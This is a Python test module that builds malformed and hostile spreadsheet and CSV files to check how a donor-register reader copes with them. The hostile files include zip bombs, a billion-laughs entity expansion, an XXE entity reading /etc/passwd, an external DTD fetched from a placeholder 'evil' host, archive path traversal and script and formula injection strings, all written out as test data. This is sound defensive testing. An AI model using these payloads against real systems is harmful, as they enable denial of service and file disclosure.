"""Files that no office should send, and some that offices do send: what becomes of each.

`python -m tests.bad_files NAME…` reads those files in a process that may take no more than 512 MB,
and tells how each went.
"""

import io
import json
import random
import re
import resource
import sys
import time
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date
from typing import Any

if __name__ == "__main__":
    # The program reads without openpyxl, which makes the files here and would load numpy.
    sys.modules["numpy"] = None  # type: ignore[assignment]

import openpyxl
from openpyxl.comments import Comment
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from outreach.spreadsheets.reading import SourceFile
from tests.office import Rows, make_csv, make_xlsx

MOST_MEMORY = 512 * 1024**2
MOST_SECONDS = 20

TITLES = ["板块", "单位名称", "人数", "联系人", "手机", "到账金额(元)", "到账日期"]
ROW = ["公安系统", "甲局", 120, "张三", "13800001234", 500, "2026-09-12"]
TEXT_ROW = [str(cell) for cell in ROW]
SHEET = "xl/worksheets/sheet1.xml"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Case:
    make: Callable[[], SourceFile]
    register: str | int
    """Words of the message, or the number of rows that are taken in."""
    gifts: str | int
    notes: str = ""
    """Words of a warning that both give."""
    is_dangerous: bool = False
    """It is read in a process of its own, which may not take more than 512 MB."""


def row(**cells: Any) -> list[Any]:
    """A row of the table, with other cells: `row(amount=-5)`."""
    names = ["sector", "name", "heads", "contact", "mobile", "amount", "day"]
    return [cells.get(name, cell) for name, cell in zip(names, ROW, strict=True)]


def sheet(*rows: Sequence[Any], titles: Sequence[str] = TITLES) -> Callable[[], SourceFile]:
    return lambda: make_xlsx([titles, *rows])


def text(content: str | bytes, name: str = "名册.csv") -> Callable[[], SourceFile]:
    return lambda: SourceFile(name, content if isinstance(content, bytes) else content.encode())


def lines(*rows: Sequence[Any], encoding: str = "utf-8", end: str = "\r\n") -> bytes:
    content = end.join(",".join(map(str, row)) for row in [TITLES, *rows])
    return content.encode(encoding)


def pack(parts: dict[str, bytes], name: str = "名册.xlsx") -> SourceFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return SourceFile(name, buffer.getvalue())


def parts_of(file: SourceFile) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
        return {part: archive.read(part) for part in archive.namelist()}


def changed(
    find: bytes, put: bytes, rows: Rows = (TITLES, ROW), part: str = SHEET
) -> Callable[[], SourceFile]:
    """The good workbook with other XML in one part."""

    def make() -> SourceFile:
        parts = parts_of(make_xlsx(rows))
        assert find in parts[part]
        return pack(parts | {part: parts[part].replace(find, put)})

    return make


def with_part(name: str, content: bytes) -> Callable[[], SourceFile]:
    return lambda: pack(parts_of(make_xlsx([TITLES, ROW])) | {name: content})


def book(change: Callable[[openpyxl.Workbook], object], *rows: Any) -> Callable[[], SourceFile]:
    """The good workbook after openpyxl has done something to it."""

    def make() -> SourceFile:
        workbook = openpyxl.Workbook()
        workbook.active.title = "名册"
        for cells in (TITLES, *(rows or [ROW])):
            workbook.active.append(cells)
        change(workbook)
        buffer = io.BytesIO()
        workbook.save(buffer)
        return SourceFile("名册.xlsx", buffer.getvalue())

    return make


def raw_sheet(inner: bytes, after: bytes = b"") -> Callable[[], SourceFile]:
    """A sheet of just this XML, in an archive whose ratio is honest."""
    noise = b"<a>%s</a>" % random.Random(1).randbytes(300_000).hex().encode()
    content = b"<worksheet><sheetData>%s</sheetData>%s</worksheet>" % (inner, after)
    return lambda: pack(
        parts_of(make_xlsx([["单位名称"]])) | {SHEET: content, "docProps/core.xml": noise}
    )


def _shared_text(length: int) -> Callable[[], SourceFile]:
    """20,000 cells that name one text of this length, in an archive whose ratio is honest."""
    texts = "<sst><si><t>%s</t></si></sst>" % ("甲" * length)
    cells = b"<row>%s</row>" % (b"<c t='s'><v>0</v></c>" * 50) * 400

    def make() -> SourceFile:
        return pack(parts_of(raw_sheet(cells)()) | {"xl/sharedStrings.xml": texts.encode()})

    return make


def _set(reference: str, value: Any, form: str = "") -> Callable[[openpyxl.Workbook], None]:
    def change(workbook: openpyxl.Workbook) -> None:
        workbook.active[reference] = value
        if form:
            workbook.active[reference].number_format = form

    return change


def _hide(workbook: openpyxl.Workbook) -> None:
    other = workbook.create_sheet("旧表")
    other.append(TITLES)
    other.append(row(name="无此局"))
    other.sheet_state = "veryHidden"


def _hide_row(workbook: openpyxl.Workbook) -> None:
    workbook.active.row_dimensions[3].hidden = True


def _hide_column(workbook: openpyxl.Workbook) -> None:
    workbook.active.column_dimensions["F"].hidden = True


def _only_hidden(workbook: openpyxl.Workbook) -> None:
    workbook.create_sheet("封面")
    workbook["名册"].sheet_state = "hidden"


def _many_sheets(count: int) -> Callable[[openpyxl.Workbook], None]:
    def change(workbook: openpyxl.Workbook) -> None:
        for number in range(count):
            workbook.create_sheet(f"表{number}")

    return change


def _comment(workbook: openpyxl.Workbook) -> None:
    workbook.active["B2"].comment = Comment("名称待核实", "审核")


def _in_1904(workbook: openpyxl.Workbook) -> None:
    workbook.epoch = CALENDAR_MAC_1904
    workbook.active["G2"] = date(2026, 9, 12)


def _truncated() -> SourceFile:
    content = make_xlsx([TITLES, ROW]).content
    return SourceFile("名册.xlsx", content[: len(content) // 2])


def _encrypted_entries() -> SourceFile:
    content = bytearray(make_xlsx([TITLES, ROW]).content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(mark), bytes(content)):
            content[found.start() + offset] |= 1
    return SourceFile("名册.xlsx", bytes(content))


def _lying_bomb() -> SourceFile:
    content = with_part("xl/bomb.xml", b" " * 20_000_000)().content
    size = (20_000_000).to_bytes(4, "little")
    return SourceFile("名册.xlsx", content.replace(size, (100).to_bytes(4, "little")))


def _laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 12)
    )
    return (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'
        "<worksheet><sheetData><row><c t='inlineStr'><is><t>&l11;</t></is></c></row></sheetData>"
        "</worksheet>"
    ).encode()


OUTSIDE = (
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row>'
    b"<c t='inlineStr'><is><t>&x;</t></is></c></row></sheetData></worksheet>"
)
OUTSIDE_DTD = b'<!DOCTYPE worksheet SYSTEM "http://192.0.2.1/evil.dtd"><worksheet'

DAMAGED, TOO_LARGE, RENAMED, NO_HEADER = "已损坏", "过大", "扩展名", "没有找到表头"
SAVE = "只能读取"

CASES: dict[str, Case] = {
    # Archives
    "bomb": Case(
        with_part("xl/media/a.bin", b" " * 40_000_000), TOO_LARGE, TOO_LARGE, is_dangerous=True
    ),
    "bomb-lying-about-its-size": Case(_lying_bomb, DAMAGED, DAMAGED, is_dangerous=True),
    "bomb-in-a-bomb": Case(
        with_part("xl/a.zip", pack({"b.bin": b" " * 90_000_000}).content), 1, 1, is_dangerous=True
    ),
    "entries-1000": Case(
        lambda: pack({f"xl/a{n}.xml": b"<a/>" for n in range(1000)}), TOO_LARGE, TOO_LARGE
    ),
    "truncated": Case(_truncated, DAMAGED, DAMAGED),
    "zip-of-nothing": Case(lambda: pack({}), RENAMED, RENAMED),
    "zip-of-a-text": Case(lambda: pack({"a.txt": b"a"}), DAMAGED, DAMAGED),
    "document-renamed": Case(
        lambda: pack({"word/document.xml": b"<w:document xmlns:w='w'/>"}), DAMAGED, DAMAGED
    ),
    "binary-workbook-renamed": Case(
        lambda: pack({"xl/workbook.bin": b"\x83\x01\x00", "[Content_Types].xml": b"<Types/>"}),
        DAMAGED,
        DAMAGED,
    ),
    "path-out-of-the-archive": Case(with_part("../../../etc/cron.d/a.xml", b"<a/>"), 1, 1),
    "encrypted-entries": Case(_encrypted_entries, "密码", "密码"),
    "password": Case(text(OLD_OFFICE + b"\0" * 4000, "名册.xlsx"), "密码", "密码"),
    "old-workbook-renamed": Case(text(OLD_OFFICE + b"Workbook" * 400, "名册.xlsx"), "旧版", "旧版"),
    "old-workbook": Case(text(OLD_OFFICE + b"\0" * 400, "名册.xls"), SAVE, SAVE),
    "macros": Case(lambda: SourceFile("名册.xlsm", make_xlsx([TITLES, ROW]).content), SAVE, SAVE),
    "macros-renamed": Case(with_part("xl/vbaProject.bin", OLD_OFFICE * 50), 1, 1),
    "image": Case(with_part("xl/media/image1.png", b"\x89PNG" + bytes(range(256)) * 40), 1, 1),
    "picture-renamed": Case(text(b"\x89PNG\r\n\x1a\n" * 9, "名册.xlsx"), RENAMED, RENAMED),
    "pdf-renamed": Case(text(b"%PDF-1.7\n", "名册.csv"), RENAMED, RENAMED),
    "page-renamed": Case(
        text("<html><table><tr><td>单位名称</td></tr></table>", "名册.xlsx"), RENAMED, RENAMED
    ),
    "no-extension": Case(text(b"a", "名册"), SAVE, SAVE),
    "empty": Case(text(b"", "名册.xlsx"), "空的", "空的"),
    "empty-text": Case(text(b""), "空的", "空的"),
    "blank-text": Case(text("\r\n\r\n  \r\n"), NO_HEADER, NO_HEADER),
    # XML
    "billion-laughs": Case(with_part(SHEET, _laughs()), DAMAGED, DAMAGED, is_dangerous=True),
    "entity-from-outside": Case(with_part(SHEET, OUTSIDE), DAMAGED, DAMAGED),
    "dtd-from-outside": Case(changed(b"<worksheet", OUTSIDE_DTD), 1, 1),
    "control-character-in-xml": Case(
        changed("甲局".encode(), "甲\x01局".encode(), part="xl/sharedStrings.xml"), DAMAGED, DAMAGED
    ),
    "nul-in-xml": Case(
        changed("甲局".encode(), "甲\0局".encode(), part="xl/sharedStrings.xml"), DAMAGED, DAMAGED
    ),
    "escaped-nul": Case(
        changed("甲局".encode(), "甲_x0000_局".encode(), part="xl/sharedStrings.xml"), 1, 1
    ),
    "deep": Case(raw_sheet(b"<a>" * 400_000 + b"</a>" * 400_000), NO_HEADER, NO_HEADER, "", True),
    "text-that-is-not-there": Case(changed(b"<v>1</v>", b"<v>99999</v>"), DAMAGED, DAMAGED),
    "row-zero": Case(changed(b'r="B2"', b'r="B0"'), DAMAGED, DAMAGED),
    "place-without-row": Case(changed(b'r="B2"', b'r="B"'), DAMAGED, DAMAGED),
    "place-without-column": Case(changed(b'r="B2"', b'r="2"'), DAMAGED, DAMAGED),
    "number-that-is-none": Case(changed(b"<v>500</v>", b"<v>NaN</v>"), 1, "到账金额"),
    "number-without-end": Case(changed(b"<v>500</v>", b"<v>1e999</v>"), 1, "到账金额"),
    "no-sheets": Case(
        lambda: pack(
            parts_of(make_xlsx([TITLES]))
            | {"xl/workbook.xml": b"<workbook><sheets></sheets></workbook>"}
        ),
        NO_HEADER,
        NO_HEADER,
    ),
    # Extent
    "absurd-dimension": Case(
        changed(b'ref="A1:G2"', b'ref="A1:XFD1048576"'), 1, 1, is_dangerous=True
    ),
    "cell-in-the-last-corner": Case(
        changed(b'r="B2"', b'r="XFD1048576"'), "XFD", "XFD", is_dangerous=True
    ),
    "cell-in-the-last-row": Case(
        raw_sheet(b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        "1048576 行",
        "1048576 行",
        is_dangerous=True,
    ),
    "last-row-under-another-name": Case(
        raw_sheet(b'<x:row r="1048576"><x:c r="A1048576"><x:v>1</x:v></x:c></x:row>'),
        "1048576 行",
        "1048576 行",
        is_dangerous=True,
    ),
    "a-million-blank-rows": Case(
        raw_sheet(b"<row/>" * 1_000_000), NO_HEADER, NO_HEADER, is_dangerous=True
    ),
    "one-long-text-in-every-cell": Case(_shared_text(32_000), "万字", "万字", is_dangerous=True),
    "one-name-in-every-cell": Case(_shared_text(10), NO_HEADER, NO_HEADER, is_dangerous=True),
    "formatted-cells": Case(
        raw_sheet(b'<row><c s="1"/></row>' * 250_000), NO_HEADER, NO_HEADER, is_dangerous=True
    ),
    "merged-cells-200000": Case(
        raw_sheet(
            b"<row><c t='inlineStr'><is><t>a</t></is></c></row>" * 2_000,
            after=b"<mergeCells>%s</mergeCells>"
            % b"".join(b'<mergeCell ref="C%d:D%d"/>' % (n, n) for n in range(1, 200_000)),
        ),
        "取消合并",
        "取消合并",
        is_dangerous=True,
    ),
    "a-merged-cell-over-everything": Case(
        changed(
            b"</sheetData>",
            b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        1,
        1,
        is_dangerous=True,
    ),
    "full-to-the-brim": Case(
        raw_sheet(
            b"<row><c t='inlineStr'><is><t>\xe5\x8d\x95\xe4\xbd\x8d</t></is></c></row>"
            + b"<row>%s</row>" % (b"<c><v>1.25</v></c>" * 60) * 20_000
        ),
        1,
        1,
        is_dangerous=True,
    ),
    "rows-20100": Case(lambda: make_csv([TITLES, *[ROW] * 20_100]), "拆成", "拆成"),
    "columns-100": Case(lambda: make_xlsx([["甲"] * 100]), "列", "列"),
    "a-million-columns-of-text": Case(text(b"," * 12_000_000), "60 列", "60 列", is_dangerous=True),
    "sheets-300": Case(book(_many_sheets(300)), TOO_LARGE, TOO_LARGE),
    "sheets-150": Case(book(_many_sheets(150)), 1, 1),
    "very-long-cell": Case(sheet(row(contact="张" * 30_000)), "联系人", 1),
    "longer-than-a-cell-can-be": Case(
        lambda: make_csv([TITLES, row(contact="张" * 60_000)]), "32767", "32767"
    ),
    "title-of-brackets": Case(
        raw_sheet(b"<row><c t='inlineStr'><is><t>%s</t></is></c></row>" % (b"(" * 3_000_000)),
        "32767",
        "32767",
        is_dangerous=True,
    ),
    # Tables
    "only-a-title": Case(lambda: make_xlsx([["2026年慈善一日捐名册"]]), NO_HEADER, NO_HEADER),
    "only-a-header": Case(sheet(), 0, 0),
    "header-twice": Case(sheet(ROW, TITLES, row(name="乙局", mobile="13800001235")), 2, 2),
    "title-twice": Case(
        sheet([*ROW, 600], titles=[*TITLES, "到账金额(元)"]), 1, "都像是", is_dangerous=False
    ),
    "name-twice": Case(sheet([*ROW, "乙局"], titles=[*TITLES, "单位名称"]), "都像是", "都像是"),
    "merged-data": Case(
        lambda: make_xlsx([TITLES, ROW, row(name="", contact="李四")], merged=["B2:B3"]),
        "取消合并",
        "取消合并",
    ),
    "two-totals-that-contradict": Case(
        sheet(ROW, ["合计", "", 120, "", "", 500], ["总计", "", 130, "", "", 510]),
        "各行相加",
        "各行相加",
    ),
    "hidden-sheet": Case(book(_hide), 1, 1, "隐藏"),
    "only-a-hidden-sheet": Case(book(_only_hidden), NO_HEADER, NO_HEADER),
    "hidden-row": Case(book(_hide_row, ROW, row(name="乙局", mobile="13800001235")), 2, 2, "隐藏"),
    "hidden-column": Case(book(_hide_column), 1, 1, "隐藏"),
    "comment": Case(book(_comment), 1, 1),
    # Values
    "formula": Case(sheet(row(amount=("=200+300", 500))), 1, 1),
    "formula-never-reckoned": Case(book(_set("F2", "=200+300")), 1, "F"),
    "error-ref": Case(sheet(row(amount=("=A9", "#REF!"))), 1, "#REF!"),
    "error-in-the-name": Case(sheet(row(name=("=A9", "#N/A"))), "#N/A", "#N/A"),
    "date-as-number": Case(sheet(row(day=46277)), 1, 1),
    "date-of-1904": Case(book(_in_1904), 1, 1),
    "date-that-is-none": Case(sheet(row(day="2026-02-30")), 1, "日期"),
    "date-beyond-time": Case(book(_set("G2", 10**9, "yyyy-mm-dd")), 1, "日期"),
    "date-in-the-future": Case(sheet(row(day=date(2099, 1, 1))), 1, "今天之后"),
    "time-for-a-date": Case(book(_set("G2", 0.5, "hh:mm")), 1, "日期"),
    "amount-negative": Case(sheet(row(amount=-500)), 1, "冲正"),
    "amount-huge": Case(sheet(row(amount=10**14)), 1, "100 亿"),
    "amount-enormous": Case(sheet(row(amount=1e300)), 1, "100 亿"),
    "amount-of-less-than-a-fen": Case(sheet(row(amount=0.001)), 1, "一分"),
    "exponent": Case(sheet(row(amount="5E+02")), 1, "不是一个金额"),
    "exponent-in-a-phone": Case(sheet(row(mobile="1.38E+10")), "手机", 1),
    "percent": Case(sheet(row(amount="50%")), 1, "不是一个金额"),
    "dollars": Case(sheet(row(amount="$500")), 1, "不是一个金额"),
    "yuan-sign": Case(sheet(row(amount="¥500.00")), 1, 1),
    "yi": Case(sheet(row(amount="0.01亿")), 1, 1),
    "thousands-in-the-title": Case(
        sheet(ROW, titles=[*TITLES[:5], "到账金额(千元)", TITLES[6]]), 1, 1
    ),
    "thousands-in-the-note": Case(
        lambda: make_xlsx([["单位:千元"], [*TITLES[:5], "到账金额", TITLES[6]], ROW]), 1, 1
    ),
    "unit-of-another-country": Case(
        lambda: make_xlsx([["单位:美元"], [*TITLES[:5], "到账金额", TITLES[6]], ROW]), 1, "美元"
    ),
    "full-width": Case(sheet(row(amount="５００", heads="１２０")), 1, 1),
    "spoken-amount": Case(sheet(row(amount="约三万")), 1, "不是一个金额"),
    "phone-with-18-digits": Case(sheet(row(mobile=138000012341234567)), "15 位", 1),
    "emoji": Case(sheet(row(contact="张三😀", name="甲局")), 1, 1),
    "marks-of-direction": Case(sheet(row(name="\u200f甲\u202e局\u200e")), 1, 1),
    "formula-as-text": Case(
        lambda: make_csv([TITLES, row(contact="=张三+1")]),
        1,
        1,
    ),
    "html": Case(sheet(row(contact="<script>alert(1)</script>")), "分不清", 1),
    "template": Case(sheet(row(contact="{{config}}%(name)s{0}")), 1, 1),
    "percent-sign-in-a-refusal": Case(sheet(row(amount="%(text)s %d {}")), 1, "不是一个金额"),
    # Text
    "gbk": Case(text(lines(TEXT_ROW, encoding="gbk")), 1, 1),
    "utf-16": Case(text(lines(TEXT_ROW, encoding="utf-16")), 1, 1),
    "utf-16-big": Case(text(b"\xfe\xff" + lines(TEXT_ROW, encoding="utf-16-be")), 1, 1),
    "utf-16-without-mark": Case(text(lines(TEXT_ROW, encoding="utf-16-le")), "编码", "编码"),
    "mark-of-utf-8": Case(text(lines(TEXT_ROW, encoding="utf-8-sig")), 1, 1),
    "no-encoding": Case(text(lines(TEXT_ROW) + b"\r\n\xff\xff\xff\x81"), "编码", "编码"),
    "nul-in-text": Case(text(lines(TEXT_ROW) + b"\0"), RENAMED, RENAMED),
    "line-ends-mixed": Case(
        text(lines() + b"\r" + ",".join(TEXT_ROW).encode() + b"\n\r\n\n"), 1, 1
    ),
    "quote-without-end": Case(text(lines() + b'\r\n"' + "甲局".encode()), "引号", "引号"),
    "quote-in-the-middle": Case(text(lines() + '\r\n公安,甲"局"'.encode()), 1, "第 2 行"),
    "rows-of-other-lengths": Case(text(lines(TEXT_ROW, ["公安系统", "乙局"], [""])), 2, 1),
}


def main(names: Sequence[str]) -> None:
    from outreach.campaigns.register import LAYOUT
    from outreach.errors import OutreachError
    from outreach.spreadsheets.reading import read
    from outreach.spreadsheets.tables import find_tables

    files = {name: CASES[name].make() for name in names}
    resource.setrlimit(resource.RLIMIT_AS, (MOST_MEMORY, MOST_MEMORY))
    for name, file in files.items():
        began = time.perf_counter()
        try:
            reading = find_tables(read(file), LAYOUT)
            outcome = f"{len(reading.tables)} tables"
        except OutreachError as refusal:
            outcome = type(refusal).__name__
        seconds = round(time.perf_counter() - began, 2)
        print(json.dumps({"name": name, "outcome": outcome, "seconds": seconds}), flush=True)  # noqa: T201


if __name__ == "__main__":
    main(sys.argv[1:])
